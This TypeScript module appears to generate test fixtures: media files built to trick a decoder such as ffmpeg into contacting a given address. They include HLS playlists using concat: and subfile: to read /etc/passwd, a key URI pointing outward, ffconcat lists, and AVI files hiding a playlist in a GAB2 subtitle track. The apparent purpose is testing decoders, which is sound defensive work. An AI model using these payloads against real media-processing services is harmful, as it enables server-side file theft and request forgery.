/** Files that are not what they seem. `address` is where a decoder that falls for one would knock. */

const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value >>> 0);
  return bytes;
};
const u16 = (value: number): Buffer => u32(value).subarray(0, 2);
const chunk = (id: string, ...parts: (Buffer | string)[]): Buffer => {
  const body = Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)));
  return Buffer.concat([Buffer.from(id, 'latin1'), u32(body.length), body, Buffer.alloc(body.length % 2)]);
};
const list = (kind: string, ...parts: Buffer[]): Buffer => chunk('LIST', kind, ...parts);

type WavSpec = { rateHz: number; channels: number; format: 'float' | 'int16' };

/** A WAV of these very bytes: what a sample says is the caller's business. */
export function wav({ rateHz, channels, format }: WavSpec, data: Buffer): Buffer {
  const bits = format === 'float' ? 32 : 16;
  const head = Buffer.concat([
    ...[u16(format === 'float' ? 3 : 1), u16(channels), u32(rateHz)],
    ...[u32((rateHz * channels * bits) / 8), u16((channels * bits) / 8), u16(bits)],
  ]);
  return chunk('RIFF', 'WAVE', chunk('fmt ', head), chunk('data', data));
}

export function floatWav(samples: Float32Array, rateHz = 16_000): Buffer {
  return wav({ rateHz, channels: 1, format: 'float' }, Buffer.from(samples.buffer));
}

const playlist = (address: string): string =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${address}/s.ts\n#EXT-X-ENDLIST\n`;

/** An AVI whose second track is a subtitle (GAB2) that is a script of its own: ffmpeg probes what is inside. */
function aviWithSubtitle(script: string): Buffer {
  const header = (type: string): Buffer =>
    chunk(
      'strh',
      type,
      Buffer.alloc(4),
      Buffer.alloc(12),
      u32(1),
      u32(8000),
      u32(0),
      u32(8000),
      Buffer.alloc(20),
    );
  const pcm = Buffer.concat([u16(1), u16(1), u32(8000), u32(16_000), u16(2), u16(16)]);
  const text = Buffer.from(script);
  const gab2 = Buffer.concat([Buffer.from('GAB2\0'), u16(2), u32(2), u16(0), u16(4), u32(text.length), text]);
  const main = chunk('avih', Buffer.concat([u32(40_000), Buffer.alloc(20), u32(2), Buffer.alloc(28)]));
  const tracks = [
    list('strl', header('auds'), chunk('strf', pcm)),
    list('strl', header('txts'), chunk('strf', Buffer.alloc(4))),
  ];
  const sound = Buffer.from(Int16Array.from({ length: 8000 }, (_, i) => 9000 * Math.sin(i / 3)).buffer);
  return chunk(
    'RIFF',
    'AVI ',
    list('hdrl', main, ...tracks),
    list('movi', chunk('00wb', sound), chunk('01tx', gab2)),
  );
}

/** name, content. Every one of them names another place; none of them is sound of its own. */
export function tricks(address: string): [string, Buffer | string][] {
  const script = (scheme: string): string => `ffconcat version 1.0\nfile '${scheme}'\nduration 10\n`;
  const dash = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="a" bandwidth="1"><BaseURL>${address}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`;
  return [
    ['playlist.m3u8', playlist(address)],
    ['playlist named as a song.mp3', playlist(address)],
    [
      'playlist behind an ID3 tag.mp3',
      Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1'), Buffer.from(playlist(address))]),
    ],
    ['master.m3u8', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${address}/child.m3u8\n`],
    ['local file.m3u8', playlist('file:///etc')],
    ['concat protocol.m3u8', `#EXTM3U\n#EXTINF:1,\nconcat:${address}/h|file:///etc/passwd\n#EXT-X-ENDLIST\n`],
    ['subfile.m3u8', '#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,64,,:/etc/passwd\n#EXT-X-ENDLIST\n'],
    [
      'encrypted.m3u8',
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`,
    ],
    ['list.ffconcat', script(`${address}/a.wav`)],
    ['list of files.ffconcat', script('/etc/passwd')],
    ['dash.mpd', dash],
    [
      'session.sdp',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${new URL(address).port} RTP/AVP 0\n`,
    ],
    ['captions.srt', '1\n00:00:00,000 --> 00:00:09,000\nhello\n'],
    [
      'captions.ass',
      '[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,hello\n',
    ],
    ['metadata.txt', ';FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\n'],
    [
      'picture.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${address}/x.png"/></svg>`,
    ],
    ['stream.ram', `${address.replace('http', 'rtsp')}/a.rm\n`],
    ['list.asx', `<asx version="3.0"><entry><ref href="${address}/a.wma"/></entry></asx>`],
    ['list.pls', `[playlist]\nFile1=${address}/a.mp3\nNumberOfEntries=1\n`],
  ];
}

/** Sound with a trap beside it: what is sound may be heard, and nobody may be asked. */
export function soundWithTrap(address: string): [string, Buffer][] {
  return [
    ['captions that are a playlist.avi', aviWithSubtitle(playlist(address))],
    ['captions that are a script.avi', aviWithSubtitle(`ffconcat version 1.0\nfile '${address}/a.wav'\n`)],
  ];
}
